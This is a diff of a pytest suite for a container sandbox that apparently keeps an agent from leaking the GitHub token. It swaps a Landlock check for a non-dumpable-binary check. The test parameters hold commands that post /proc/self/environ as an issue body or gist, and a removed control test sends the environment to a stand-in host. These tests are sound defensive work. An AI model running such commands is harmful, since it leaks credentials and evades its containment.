@@ -200,13 +200,11 @@ def test_control_without_the_policy_the_same_attack_takes_the_token(stand_in):
 
 # ------------------------------------------------------------------ files gh reads: its own environment
 
-LANDLOCK = "Landlock in the vault (gh and its children cannot read /proc)"
-
 OWN_ENVIRON = [
     pytest.param("gh issue create -R o/r --title t --body-file /proc/self/environ", id="body-file-proc-self"),
     pytest.param("ln -sf /proc/self/environ /tmp/env-link; gh issue create -R o/r --title t --body-file /tmp/env-link",
                  id="body-file-symlink"),
-    pytest.param("cd /proc/self && gh issue create -R o/r --title t --body-file environ", id="body-file-cwd-proc"),
+    pytest.param("cd /proc && gh issue create -R o/r --title t --body-file self/environ", id="body-file-cwd-proc"),
     pytest.param("gh gist create /proc/thread-self/environ", id="gist-create-proc-thread-self"),
 ]
 
@@ -214,27 +212,18 @@ OWN_ENVIRON = [
 @pytest.mark.parametrize("command", OWN_ENVIRON)
 def test_gh_cannot_read_its_own_environment_as_a_file(vbox, mode, command):
     """gh reads the files its caller names as itself: /proc/self/environ would be its environment,
-    token included, posted as an issue or a gist. Landlock leaves /proc out of what gh may read."""
+    token included, posted as an issue or a gist. gh is not dumpable, so even its own /proc files
+    belong to root and the open fails before any request."""
     res = vbox.sh(f"{command}; echo rc=$?")
-    assert_stopped(res, LANDLOCK, "rc=1" in res.out and "permission denied" in res.err.lower()
-                   and "environ" in res.err, f"(paranoid={mode})")
+    assert_stopped(res, NON_DUMPABLE, "rc=1" in res.out and "permission denied" in res.err.lower(),
+                   f"(paranoid={mode})")
 
 
 def test_twin_gh_reads_ordinary_files(vbox, mode):
     res = vbox.sh("echo 'a body' > /tmp/body.md; gh issue create -R o/r --title t --body-file /tmp/body.md; "
                   "echo rc=$?")
-    assert_allowed(res, LANDLOCK, "rc=1" in res.out and "permission denied" not in res.err.lower()
+    assert_allowed(res, NON_DUMPABLE, "rc=1" in res.out and "permission denied" not in res.err.lower()
                    and "github.com" in res.err, f"(paranoid={mode})")
-
-
-def test_control_gh_without_the_vault_posts_its_environment(stand_in):
-    """gh-real without the vault's Landlock domain reads /proc/self/environ and sends it on."""
-    control = "ghp_CONTROL" + uuid.uuid4().hex
-    code, out, err = stand_in(
-        f"GH_TOKEN={control} GH_CONFIG_DIR=/etc/pimagic/gh {LIB}/gh-real api --hostname github.localhost "
-        "-X GET user -F env=@/proc/self/environ >/dev/null; cat /tmp/seen"
-    )
-    assert f"GH_TOKEN%3D{control}" in out or f"GH_TOKEN={control}" in out, (out, err)
 
 
 # ------------------------------------------------------------------ 7b: no decision in a process the agent can read
@@ -356,18 +345,38 @@ def test_git_parked_by_a_fifo_include_under_gh_keeps_the_token(vbox, mode, cmd):
     assert_stopped(res, EXEC_ONLY_GIT, v.get("leaked") == "[]" and v.get("environ") in ("EACCES", "EPERM"))
 
 
+def control_box(client, image: str, root, name: str, readable: str):
+    """A box from the sandbox image with `readable` programs back at mode 0755 (the control)."""
+    tag = f"{image}-control-{name}"
+    dockerfile = f"FROM {image}\nUSER 0:0\nRUN chmod 0755 {readable}\nUSER 1000:1000\n"
+    client.images.build(fileobj=io.BytesIO(dockerfile.encode()), tag=tag, rm=True, pull=False)
+    return offline(start_box(root, tag, client, memory="512m", pids_limit=128, tmpfs_size="32m"), client), tag
+
+
 @pytest.fixture(scope="module")
 def readable_git_box(docker_client, sandbox_image, tmp_path_factory):
-    """The control: the same image with git readable again (mode 0755)."""
-    tag = f"{sandbox_image}-control-readable-git"
-    dockerfile = (f"FROM {sandbox_image}\nUSER 0:0\n"
-                  "RUN chmod 0755 /usr/bin/git /usr/lib/git-core/git\nUSER 1000:1000\n")
-    docker_client.images.build(fileobj=io.BytesIO(dockerfile.encode()), tag=tag, rm=True, pull=False)
-    box = start_box(tmp_path_factory.mktemp("control"), tag, docker_client,
-                    memory="512m", pids_limit=128, tmpfs_size="32m")
-    yield offline(box, docker_client)
+    box, tag = control_box(docker_client, sandbox_image, tmp_path_factory.mktemp("control"), "readable-git",
+                           "/usr/bin/git /usr/lib/git-core/git")
+    yield box
     box.sandbox.remove()
     docker_client.images.remove(tag, force=True)
+
+
+@pytest.fixture(scope="module")
+def readable_gh_box(docker_client, sandbox_image, tmp_path_factory):
+    box, tag = control_box(docker_client, sandbox_image, tmp_path_factory.mktemp("control"), "readable-gh",
+                           f"{LIB}/gh-real")
+    yield box
+    box.sandbox.remove()
+    docker_client.images.remove(tag, force=True)
+
+
+def test_control_readable_gh_reads_its_own_environment(readable_gh_box):
+    """With gh-real readable (so dumpable), the same --body-file read succeeds: gh gets as far as
+    the (cut) network with the file read, instead of failing on the open."""
+    readable_gh_box.policy(paranoid=True)
+    res = readable_gh_box.sh("gh issue create -R o/r --title t --body-file /proc/self/environ; echo rc=$?")
+    assert "rc=1" in res.out and "permission denied" not in res.err.lower() and "github.com" in res.err, res
 
 
 def test_control_readable_git_gives_the_token_away(readable_git_box):
@@ -397,6 +406,14 @@ def test_programs_gh_would_start_are_execute_only_stubs(vbox):
                   "/usr/lib/git-core/git-remote-http; cat /usr/bin/git > /dev/null")
     assert_stopped(res, EXEC_ONLY_GIT, "no pager, browser, editor or ssh in this sandbox" in res.err
                    and res.out.count("711 root") == 3 and "Permission denied" in res.err)
+
+
+def test_no_git_program_is_readable(vbox):
+    """Hard links share the mode; a readable copy would be a dumpable git: none is left."""
+    res = vbox.sh("for f in /usr/bin/git* $(find /usr/lib/git-core -type f); do [ -L \"$f\" ] && continue; "
+                  "[ -r \"$f\" ] && head -c 4 \"$f\" | grep -q ELF && echo \"readable: $f\"; done; "
+                  "find /usr/lib/git-core -type f | wc -l")
+    assert_stopped(res, EXEC_ONLY_GIT, "readable:" not in res.out and int(res.out.split()[-1]) > 10)
 
 
 def test_twin_agent_git_still_works(vbox):
